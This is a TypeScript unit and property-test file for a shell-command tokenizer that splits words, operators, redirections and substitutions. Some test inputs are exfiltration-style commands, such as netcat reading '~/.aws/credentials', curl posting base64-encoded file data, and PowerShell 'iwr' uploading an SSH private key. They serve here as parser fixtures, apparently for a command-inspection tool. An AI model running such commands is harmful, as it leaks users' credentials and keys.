import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  MAX_COMMAND_CHARACTERS,
  MAX_WORDS,
  readScript,
  readShellCommand,
  substitutions,
} from './shell-words.js';

const values = (text: string, start = 0): string[] =>
  readShellCommand(text, start).words.map((word) => word.value);

describe('readShellCommand', () => {
  it('removes quotes and keeps substitutions inside their word', () => {
    expect(values(`curl -d "a b" 'c d' --data=$(cat x | base64) \`id\` x`)).toEqual([
      'curl',
      '-d',
      'a b',
      'c d',
      '--data=$(cat x | base64)',
      '`id`',
      'x',
    ]);
  });

  it('ends at operators and reports which', () => {
    expect(readShellCommand('cat a | nc h 1', 0)).toMatchObject({ terminator: '|', end: 6 });
    expect(readShellCommand('a || b', 0).terminator).toBe('||');
    expect(readShellCommand('a && b', 0).terminator).toBe('&&');
    expect(readShellCommand('a; b', 0).terminator).toBe(';');
    expect(readShellCommand('a\nb', 0).terminator).toBe('\n');
    expect(readShellCommand('a) b', 0).terminator).toBe(')');
    expect(readShellCommand('a # c | d', 0)).toMatchObject({ terminator: 'end' });
    expect(readShellCommand('run `a b` then', 5)).toMatchObject({ terminator: '`', end: 8 });
  });

  it('splits redirections into their own words', () => {
    expect(values('nc h 1 <~/.aws/credentials 2>&1 >>log &>all')).toEqual([
      'nc',
      'h',
      '1',
      '<',
      '~/.aws/credentials',
      '>',
      '>',
      'log',
      '>',
      'all',
    ]);
    expect(values('diff <(sort a) b')).toEqual(['diff', '<(sort a)', 'b']);
  });

  it('joins continued lines (POSIX `\\` and PowerShell backtick) and keeps Windows paths', () => {
    expect(values('curl \\\n  -T f \\\r\n  https://x')).toEqual(['curl', '-T', 'f', 'https://x']);
    expect(values('iwr `\n -InFile $env:USERPROFILE\\.ssh\\id_rsa')).toEqual([
      'iwr',
      '-InFile',
      '$env:USERPROFILE\\.ssh\\id_rsa',
    ]);
  });

  it('stays within its bounds on any input', () => {
    const pieces = fc.constantFrom(
      'a',
      ' ',
      '"',
      "'",
      '`',
      '$(',
      '(',
      ')',
      '|',
      '\\',
      '\n',
      '<',
      '>',
      '&',
      '#',
      '{',
      '}',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 400 }), fc.nat(), (parts, at) => {
        const text = parts.join('');
        const start = at % (text.length + 1);
        const command = readShellCommand(text, start);
        expect(command.end).toBeGreaterThanOrEqual(start);
        expect(command.end).toBeLessThanOrEqual(Math.min(text.length, start + MAX_COMMAND_CHARACTERS));
        expect(command.words.length).toBeLessThanOrEqual(MAX_WORDS);
        for (const word of command.words) {
          expect(word.start).toBeGreaterThanOrEqual(start);
          expect(word.end).toBeLessThanOrEqual(command.end);
          expect(word.value.length).toBeLessThanOrEqual(word.end - word.start);
        }
      }),
      { numRuns: 3000 },
    );
  });
});

describe('substitutions', () => {
  it('finds the outermost substitutions of a value', () => {
    expect(substitutions('a$(cat $(x))b`id`(Get-Content f)<(sort y)')).toEqual([
      'cat $(x)',
      'id',
      'Get-Content f',
      'sort y',
    ]);
    expect(readScript('cat a | base64; env').map((command) => command[0]?.value)).toEqual([
      'cat',
      'base64',
      'env',
    ]);
  });
});
